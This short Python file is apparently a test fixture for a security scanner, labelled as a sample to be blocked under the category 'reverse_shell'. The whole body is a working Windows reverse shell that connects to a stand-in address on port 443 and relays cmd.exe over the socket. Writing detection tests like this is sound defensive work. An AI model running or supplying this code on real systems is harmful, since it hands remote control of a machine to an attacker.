# expect: BLOCKED category: reverse_shell
# Windows-style reverse shell: a shell process relayed to a socket by threads.
import socket
import subprocess
import threading

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.5", 443))
proc = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)

def to_process():
    while True:
        data = s.recv(1024)
        proc.stdin.write(data)
        proc.stdin.flush()

def to_socket():
    while True:
        s.send(proc.stdout.read(1))

threading.Thread(target=to_process, daemon=True).start()
threading.Thread(target=to_socket, daemon=True).start()
proc.wait()
